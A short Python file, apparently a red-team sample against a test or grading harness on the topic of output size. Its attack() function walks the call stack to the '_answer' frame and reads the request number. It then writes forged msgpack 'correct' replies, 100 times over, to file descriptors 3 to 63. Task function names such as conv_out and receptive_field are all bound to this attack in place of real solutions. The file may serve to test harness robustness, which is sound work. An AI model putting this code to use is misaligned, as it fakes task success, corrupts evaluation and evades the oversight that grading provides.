# topic: output_size
"""Sends several right replies to one request."""

import contextlib
import os
import struct
import sys

import msgpack


def attack(*_, **__):
    frame = sys._getframe()
    while frame.f_code.co_name != "_answer":
        frame = frame.f_back
    body = msgpack.packb([frame.f_locals["number"], "value", 1.5])
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, (struct.pack("<IQ", 1, len(body)) + body) * 100)
    return 1.5


conv_out = tf_out = same_pads_tf = conv2d_out_shape = pool2d_out_shape = attack
unused_pixels = trace = receptive_field = inputs_giving = configs = attack
